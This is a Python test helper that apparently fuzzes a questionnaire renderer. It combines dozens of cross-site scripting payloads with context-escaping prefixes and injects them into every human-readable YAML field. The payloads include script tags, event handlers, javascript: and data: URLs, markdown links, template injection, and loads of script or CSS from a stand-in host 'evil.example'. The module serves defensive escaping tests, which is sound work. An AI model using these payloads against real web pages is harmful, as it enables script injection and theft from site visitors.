"""Words that are a script wherever they get out of their place, and questionnaires whose every wording is one.

Whatever runs calls `canary`, which nobody else does.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from itertools import product

from engine.document import Mapping, Node, Scalar, Source
from engine.document.reader import read

OUT = (
    "", '"', "'", '">', "'>", "</title>", "</textarea>", "</select>", "</style>", "</script>", "-->", "]]>", '" x="',
    "`", "</p></div></main></body>", '\\"', "<!--",
)  # fmt: skip
"""Ways out of where words stand."""

IN = (
    "<script>canary()</script>",
    "<ScRiPt/x>canary()</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script src='data:text/javascript,canary()'></script>",
    "<script\t>canary()</script\t>",
    "<img src=x onerror=canary()>",
    "<img/src/onerror=canary()>",
    '<IMG SRC=x ONERROR="canary()">',
    "<image src=x onerror=canary()>",
    "<svg onload=canary()>",
    "<svg/onload=canary()//",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload=canary()>'></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=canary()>",
    "<body onload=canary()>",
    '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    "<iframe src=javascript:parent.canary()></iframe>",
    "<object data=javascript:canary()></object>",
    "<embed src=javascript:canary()>",
    "<details open ontoggle=canary()>x</details>",
    "<input autofocus onfocus=canary()>",
    "<select autofocus onfocus=canary()></select>",
    "<video><source onerror=canary()></video>",
    "<audio src=x onerror=canary()></audio>",
    "<marquee onstart=canary()>x</marquee>",
    "<a href=javascript:canary()>x</a>",
    "<a href='java\tscript:canary()'>x</a>",
    "<a href=&#106;avascript:canary()>x</a>",
    "<form action=javascript:canary()><button>x</button></form>",
    "<button formaction=javascript:canary() form=page-form>x</button>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<style>@import'//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example/)'>x</p>",
    "<template><script>canary()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=canary()>'>",
    "<xmp><img src=x onerror=canary()>",
    "<plaintext>",
    "<x onclick=canary() tabindex=1 autofocus onfocus=canary()>x</x>",
    " onmouseover=canary() x",
    " autofocus onfocus=canary() x",
    " accesskey=x onclick=canary() x",
    "javascript:canary()",
    "[x](javascript:canary())",
    "[x](&#x6A;avascript:canary())",
    "[x](data:text/html,<script>canary()</script>)",
    "[x](vbscript:canary())",
    "[x](//evil.example/)",
    '[x](https://example.org/"onmouseover="canary())',
    "[x](<https://example.org/> 'onmouseover=canary()')",
    "![x](https://evil.example/x.png)",
    "<javascript:canary()>",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;script&#62;canary()&#60;/script&#62;",
    "%3Cscript%3Ecanary()%3C/script%3E",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e",
    "\uff1cscript\uff1ecanary()\uff1c/script\uff1e",
    "{{constructor.constructor('canary()')()}}",
    "{% set x = canary() %}",
    "${canary()}",
    "expression(canary())",
    "url(javascript:canary())",
)
"""What does harm outside."""

SCRIPTS: tuple[str, ...] = tuple(way + harm for way, harm in product(OUT, IN))
"""Every harm behind every way out."""

WORDED = frozenset({"body", "licence", "note", "by", "reason", "name"})
"""Keys whose words are in one language only; `waive` has a reason for each rule."""


LONGEST = 400
"""So many characters of them fit most places."""


def texts(longest: int = LONGEST) -> list[str]:
    """All of them, several in a text."""
    found = [""]
    for script in SCRIPTS:
        if len(found[-1]) + len(script) >= longest:
            found.append("")
        found[-1] = f"{found[-1]} {script}".strip()
    return found


def poisoned(questionnaire: str, words: Iterator[str]) -> str:
    """A questionnaire, in one line, with the next of these words behind its own in every place where words stand."""
    root, _ = read(Source("good.yaml", questionnaire))
    assert root is not None
    return _flow(root, words, ())


def _flow(node: Node, words: Iterator[str], path: tuple[str, ...]) -> str:
    if isinstance(node, Mapping):
        entries = ((str(key), each) for key, each in node.items())
        return "{" + ", ".join(f"{json.dumps(key)}: {_flow(each, words, (*path, key))}" for key, each in entries) + "}"
    if isinstance(node, Scalar):
        if _said(path):
            return json.dumps(f"{node} {next(words).replace('{', '{{').replace('}', '}}')}")
        return str(node) if not node.quoted and str(node).replace("_", "").isalnum() else json.dumps(str(node))
    return "[" + ", ".join(_flow(each, words, path) for each in node) + "]"


def _said(path: Sequence[str]) -> bool:
    """Whether words for people stand at a place."""
    above = path[-2] if len(path) > 1 else ""
    if path[-1] in {"en", "cy"}:
        return above != "translations" and path[-2:] != ("also", path[-1])
    if path[0] == "certificate":
        return False
    return (path[-1] in WORDED and path[0] in {"body", "sources", "translations"}) or above == "waive"
